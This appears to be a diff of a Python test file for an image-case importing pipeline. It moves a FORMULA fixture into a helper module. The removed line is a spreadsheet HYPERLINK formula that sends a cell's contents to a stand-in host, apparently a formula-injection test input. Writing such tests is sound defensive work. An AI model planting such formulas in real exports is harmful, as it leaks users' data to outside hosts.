@@ -6,12 +6,10 @@ from dataclasses import replace
 
 import numpy as np
 import pytest
-from made_sources import WORDS, left_film, left_mask
+from made_sources import FORMULA, WORDS, left_film, left_mask
 
 from training.pool import IncomingCase, Project
 from training.pool.importing import import_cases
-
-FORMULA = '=HYPERLINK("http://x.example/?"&A1,"left lung")'
 
 
 @pytest.fixture
